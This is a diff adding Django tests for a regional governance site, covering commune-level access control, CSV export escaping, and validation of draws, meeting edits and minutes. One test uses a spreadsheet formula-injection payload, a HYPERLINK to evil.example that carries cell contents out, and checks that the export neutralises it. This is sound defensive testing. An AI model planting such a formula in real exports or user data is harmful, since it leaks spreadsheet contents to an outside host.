@@ -855,8 +855,9 @@ def test_list_pages_query_count_does_not_grow(
         )
 
 
-def test_registrants_list_for_organisers_only_and_export_logged(client, personas, reference):
-    meeting = make_meeting(reference[CONVENTION], capacity=10)
+def test_registrants_list_for_organisers_only_and_export_logged(client, personas, reference, place):
+    # Held at the Maison du Projet in Marseille: the Marseille commune agent runs it.
+    meeting = make_meeting(reference[CONVENTION], capacity=10, place=place)
     services.registration_create(user=personas["resident"], meeting=meeting)
     url = reverse("governance:meeting_registrants", args=[meeting.pk])
     client.force_login(personas["resident"])
@@ -869,3 +870,147 @@ def test_registrants_list_for_organisers_only_and_export_logged(client, personas
     assert "Awa;habitante@example.org;Marseille;" in csv_text
     log = AuditLog.objects.get(action="governance.registrants_exported")
     assert log.actor == personas["commune_agent"] and log.data == {"count": 1}
+
+
+@pytest.fixture
+def other_commune(territories, marseille):
+    from renouveau.territories.models import Commune
+
+    return Commune.objects.exclude(pk=marseille.pk).order_by("name").first()
+
+
+def test_commune_agent_runs_only_the_meetings_of_their_communes(
+    client, personas, reference, place, other_commune
+):
+    """A Marseille agent may not edit, cancel, document or read the registrants (e-mails) of a
+    meeting held in another commune that they did not announce."""
+    agent = personas["commune_agent"]
+    elsewhere = Place.objects.create(
+        name="Antenne", kind="project_house_branch", commune=other_commune, address="2 rue B"
+    )
+    foreign = make_meeting(reference[CONVENTION], capacity=10, place=elsewhere, title="Ailleurs")
+    by_address = make_meeting(reference[CONVENTION], capacity=10, title="Salle du conseil")
+    services.registration_create(user=personas["resident"], meeting=foreign)
+    client.force_login(agent)
+    for meeting in (foreign, by_address):
+        for name in (
+            "meeting_edit",
+            "meeting_cancel",
+            "meeting_minutes",
+            "meeting_document",
+            "meeting_registrants",
+        ):
+            url = reverse(f"governance:{name}", args=[meeting.pk])
+            assert client.get(url).status_code == 403, name
+        registrants = reverse("governance:meeting_registrants", args=[meeting.pk])
+        assert client.get(registrants, {"format": "csv"}).status_code == 403
+        cancel = reverse("governance:meeting_cancel", args=[meeting.pk])
+        assert client.post(cancel, {"reason": "Je ne suis pas l'organisateur"}).status_code == 403
+        page = client.get(reverse("governance:meeting", args=[meeting.pk])).content.decode()
+        assert "Gestion (agents)" not in page
+    foreign.refresh_from_db()
+    assert not foreign.is_cancelled
+    assert not AuditLog.objects.filter(action="governance.registrants_exported").exists()
+    assert client.get(reverse("governance:meeting_edit", args=[999999])).status_code == 404
+    # In one of their communes, or announced by them: theirs to run.
+    local = make_meeting(reference[CONVENTION], place=place)
+    own = make_meeting(reference[CONVENTION], title="La mienne", created_by=agent)
+    for meeting in (local, own):
+        assert client.get(reverse("governance:meeting_edit", args=[meeting.pk])).status_code == 200
+        page = client.get(reverse("governance:meeting", args=[meeting.pk])).content.decode()
+        assert "Gestion (agents)" in page
+    # Announcing: only the places of their communes are offered.
+    create = reverse("governance:meeting_create")
+    form = client.get(create).content.decode()
+    assert "Maison du Projet" in form and "Antenne" not in form
+    response = client.post(
+        create,
+        {
+            "title": "Réunion",
+            "starts_at": "2030-05-01T18:00",
+            "ends_at": "2030-05-01T20:00",
+            "place": elsewhere.pk,
+            "agenda": "x",
+            "is_public": "on",
+        },
+    )
+    assert response.status_code == 400
+    # The Metropolis runs every meeting.
+    client.force_login(personas["metropolis_agent"])
+    assert client.get(reverse("governance:meeting_edit", args=[foreign.pk])).status_code == 200
+    csv_text = client.get(
+        reverse("governance:meeting_registrants", args=[foreign.pk]), {"format": "csv"}
+    ).content.decode()
+    assert personas["resident"].email in csv_text
+
+
+def test_registrants_csv_does_not_run_formulas(client, personas, reference, place):
+    resident = personas["resident"]
+    resident.display_name = '=HYPERLINK("https://evil.example/?"&A1,"Awa")'
+    resident.save()
+    meeting = make_meeting(reference[CONVENTION], capacity=10, place=place)
+    services.registration_create(user=resident, meeting=meeting)
+    client.force_login(personas["metropolis_agent"])
+    csv_text = client.get(
+        reverse("governance:meeting_registrants", args=[meeting.pk]), {"format": "csv"}
+    ).content.decode()
+    row = csv_text.splitlines()[1]
+    assert row.startswith("\"'=HYPERLINK(") and ";habitante@example.org;Marseille;" in row
+    indicator = ComparisonIndicator.objects.create(
+        code="i", name="@SUM(1+1)", unit="%", definition="d", source="s", year=2020
+    )
+    ComparisonValue.objects.create(indicator=indicator, metropolis="-2+3", value=Decimal("-1.5"))
+    export = client.get(reverse("governance:comparison_export", args=["csv"])).content.decode()
+    assert "i;'@SUM(1+1);%;2020;s;'-2+3;-1.50;0" in export
+
+
+def test_draw_cannot_close_in_the_past(client, personas, reference):
+    client.force_login(personas["metropolis_agent"])
+    yesterday = timezone.localdate() - datetime.timedelta(days=1)
+    data = {
+        "body": reference[CONVENTION].pk,
+        "title": "Tirage",
+        "description": "Présentation",
+        "seats": "2",
+        "closes_on": yesterday.isoformat(),
+    }
+    response = client.post(reverse("governance:draw_create"), data)
+    assert response.status_code == 400
+    assert "ne peut pas être déjà passée" in response.content.decode()
+    assert not Draw.objects.exists()
+    data["closes_on"] = timezone.localdate().isoformat()
+    assert client.post(reverse("governance:draw_create"), data).status_code == 302
+
+
+def test_registrations_are_not_dropped_silently_by_an_edit(client, personas, reference, place):
+    meeting = make_meeting(reference[CONVENTION], capacity=10, place=place)
+    services.registration_create(user=personas["resident"], meeting=meeting)
+    client.force_login(personas["metropolis_agent"])
+    data = {
+        "body": reference[CONVENTION].pk,
+        "title": meeting.title,
+        "starts_at": timezone.localtime(meeting.starts_at).strftime("%Y-%m-%dT%H:%M"),
+        "ends_at": timezone.localtime(meeting.ends_at).strftime("%Y-%m-%dT%H:%M"),
+        "place": place.pk,
+        "agenda": meeting.agenda,
+        "is_public": "",
+        "capacity": "",
+    }
+    response = client.post(reverse("governance:meeting_edit", args=[meeting.pk]), data)
+    assert response.status_code == 400
+    assert "la réunion garde ses inscriptions" in response.content.decode()
+    meeting.refresh_from_db()
+    assert meeting.is_public and meeting.capacity == 10 and meeting.registrations.count() == 1
+
+
+def test_no_minutes_for_a_cancelled_meeting(client, personas, reference):
+    meeting = make_meeting(reference[CONVENTION], days=-2)
+    services.meeting_cancel(actor=personas["metropolis_agent"], meeting=meeting, reason="Grève")
+    client.force_login(personas["metropolis_agent"])
+    response = client.post(
+        reverse("governance:meeting_minutes", args=[meeting.pk]), {"minutes": "Décisions."}
+    )
+    assert response.status_code == 400
+    assert "annulée : elle n&#x27;a pas de compte rendu" in response.content.decode()
+    meeting.refresh_from_db()
+    assert meeting.minutes == "" and meeting.minutes_published_at is None
